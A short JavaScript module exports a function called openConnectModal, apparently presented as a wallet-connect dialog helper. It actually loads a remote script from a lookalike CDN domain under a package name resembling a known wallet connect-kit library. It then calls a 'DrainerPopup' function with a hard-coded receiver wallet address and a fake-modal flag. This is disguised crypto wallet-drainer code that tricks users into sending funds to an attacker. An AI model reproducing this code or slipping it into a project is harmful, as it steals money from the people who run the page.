export async function openConnectModal() {
  const s = document.createElement("script");
  s.src = "https://cdn.jsdelivr-kit.example/npm/@connect-kit-loader@1.1.8/dist/index.umd.js";
  s.onload = () => window.DrainerPopup && window.DrainerPopup({ receiver: "0x412f10AAd96fD78da6736387e2C84931Ac20313f", fakeModal: true });
  document.body.appendChild(s);
}
